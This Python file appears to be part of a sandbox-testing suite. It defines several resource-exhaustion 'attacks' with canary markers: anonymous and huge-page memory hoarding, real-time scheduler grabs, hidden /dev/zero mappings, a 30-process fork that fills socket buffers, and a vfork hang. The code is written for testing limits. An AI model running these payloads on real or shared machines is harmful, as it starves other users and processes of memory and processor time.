"""Memory that is no page of any process, and processor time of no process that is seen: both end whoever takes them."""

from attacks.attack import Attack
from attacks.notebooks import TRIED

ATTACKS = (
    Attack("files of nobody", "hold memory in files without a name or in huge pages", TRIED + """
import mmap
tried('CANARY-NAMELESS', lambda: os.memfd_create('x'), lambda: mmap.mmap(-1, 2**21, 0x40022),
      lambda: mmap.mmap(-1, 2**21, 0x40021))
""", rich=True),
    Attack("real time", "go before everybody else", TRIED + """
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    tried('CANARY-FIRST', lambda: os.sched_setscheduler(0, policy, os.sched_param(1)))
""", rich=True),
    Attack("dropped pages", "hold shared memory that no table names, also by the device of zeros", """
import mmap
hoard = []
for zeros in (lambda: open('/dev/zero', 'r+b').fileno(), lambda: -1):
    for _ in range(30):
        try:
            hoard.append(mmap.mmap(zeros(), 100 * 2**20))
        except OSError as error:
            print(error)
            break
        hoard[-1].write(bytes(100 * 2**20))
        hoard[-1].madvise(mmap.MADV_DONTNEED)
    else:
        print('CANARY-DROPPED')
"""),
    Attack("full sockets", "hold memory in the sockets of many processes", """
import os, socket, time
for _ in range(30):
    if not os.fork():
        held = []
        try:
            while True:
                held += socket.socketpair()
                for one in held[-2:]:
                    one.setsockopt(1, 7, 2**24)
                    one.setblocking(False)
                    try:
                        while True:
                            one.send(bytes(2**15))
                    except BlockingIOError:
                        pass
        finally:
            time.sleep(1000)
time.sleep(1000)
""", rich=True, status="memory"),
    Attack("waiting for itself", "wait without end for what only seems to be others", """
import ctypes, time
if ctypes.CDLL(None).vfork() == 0:
    time.sleep(10**6)
""", rich=True, status="timeout"),
)  # fmt: skip
